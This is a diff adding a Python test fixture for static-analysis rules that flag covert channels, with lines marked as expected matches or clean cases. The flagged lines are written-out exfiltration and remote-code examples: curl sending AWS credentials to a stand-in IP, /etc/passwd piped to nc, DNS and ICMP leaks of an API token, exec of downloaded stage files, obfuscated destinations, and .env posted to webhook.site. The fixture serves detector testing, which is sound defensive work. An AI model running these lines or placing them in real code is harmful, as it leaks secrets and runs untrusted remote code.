@@ -1,0 +1,65 @@
+"""Fixture for covert channels (never executed)."""
+import base64
+import importlib
+import os
+import socket
+import subprocess
+from subprocess import check_output as co
+from urllib.request import urlopen
+
+import dns.resolver
+import requests
+from scapy.all import ICMP, IP, send
+
+# ruleid: covert.process-egress
+subprocess.run(f"curl -s -d @{os.path.expanduser('~/.aws/credentials')} https://203.0.113.5/c", shell=True)
+# ruleid: covert.process-egress
+co(["wget", "-q", "https://203.0.113.5/x"])
+# ruleid: covert.process-egress
+os.system("cat /etc/passwd | nc 198.51.100.4 9001")
+# ruleid: covert.process-egress
+subprocess.Popen(["sh", "-c", "scp dump.sql backup@198.51.100.9:/tmp"])
+# ok: covert.process-egress
+subprocess.run(["git", "status"])
+# ok: covert.process-egress
+subprocess.run("ls -la curl_results", shell=True)
+
+token = os.environ["API_TOKEN"]
+# ruleid: covert.dns-exfil
+socket.gethostbyname(f"{token}.x.attacker.example")
+# ruleid: covert.dns-exfil
+dns.resolver.resolve("%s.exfil.example" % token, "A")
+# ok: covert.dns-exfil
+socket.gethostbyname("db.internal.example")
+
+# ruleid: covert.raw-packet
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+# ok: covert.raw-packet
+tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+# ruleid: covert.scapy
+send(IP(dst="198.51.100.1") / ICMP() / token)
+
+# ruleid: covert.dynamic-import
+sock_mod = __import__(base64.b64decode("c29ja2V0").decode())
+# ruleid: covert.dynamic-import
+req = importlib.import_module("requests")
+# ok: covert.dynamic-import
+plugin = importlib.import_module("myapp.plugins.csv")
+
+# ruleid: covert.exec-download
+exec(requests.get("https://203.0.113.5/stage2.py").text)
+payload = urlopen("https://203.0.113.5/stage3.py").read()
+# ruleid: covert.exec-download
+exec(payload)
+# ok: covert.exec-download
+exec("print(1)")
+
+# ruleid: covert.obfuscated-destination
+requests.post(base64.b64decode("aHR0cHM6Ly8yMDMuMC4xMTMuNS91").decode(), data=os.environ)
+# ruleid: covert.obfuscated-destination
+urlopen("".join(chr(c) for c in [104, 116, 116, 112, 58, 47, 47, 101, 118, 105, 108, 46, 101, 120]))
+
+# ruleid: covert.suspicious-host
+requests.post("https://webhook.site/4f1c", data=open(".env").read())
+# ruleid: covert.ip-lookup
+ip = requests.get("https://api.ipify.org").text
